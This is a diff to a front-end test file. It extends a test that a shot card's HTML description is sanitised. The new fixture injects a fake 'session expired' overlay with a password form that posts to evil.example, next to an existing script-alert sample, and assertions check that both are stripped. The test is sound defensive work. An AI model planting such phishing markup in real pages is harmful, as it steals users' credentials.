@@ -57,11 +57,15 @@ describe('Invite pilot', () => {
 });
 
 describe('a shot card', () => {
-  const shot = { __typename: 'PilotShot' as const, id: 's1', title: 'Front Elevation', description: '<p>Front <script>alert(1)</script><b>45°</b></p>', exampleLink: null, folderTypes: 'Image', uploadingPath: 'projects/p/x', isAssetUploaded: true, isMarkedCompleted: true, hasNoteAdded: false };
+  const shot = { __typename: 'PilotShot' as const, id: 's1', title: 'Front Elevation', description: '<p>Front <script>alert(1)</script><b>45°</b></p><div style="position:fixed;inset:0;z-index:9999">Your session expired<form action="https://evil.example"><input name="password"></form></div><a href="https://vms.example/guide">guide</a>', exampleLink: null, folderTypes: 'Image', uploadingPath: 'projects/p/x', isAssetUploaded: true, isMarkedCompleted: true, hasNoteAdded: false };
   it('sanitises the HTML description and locks Verify Completed for the pilot once completed', () => {
     const { container } = renderUi(<ShotCard shot={shot} projectId="1" role={ROLES.VMS_PILOT} accepted canUpload canControl onChanged={() => {}} />);
     expect(container.querySelector('script')).toBeNull();
     expect(screen.getByText('45°')).toBeInTheDocument();
+    // a pilot's description cannot lay a fake overlay or form over the PM's page (#34 finding 11)
+    const description = container.querySelector('.shot-description')!;
+    expect(description.querySelector('form, input, [style]')).toBeNull();
+    expect(screen.getByRole('link', { name: 'guide' })).toHaveAttribute('href', 'https://vms.example/guide');
     expect(screen.getByLabelText('Verify Completed')).toBeChecked();
     expect(screen.getByLabelText('Verify Completed')).toBeDisabled();
     expect(screen.getByTestId('shot-status')).toHaveTextContent('COMPLETED');
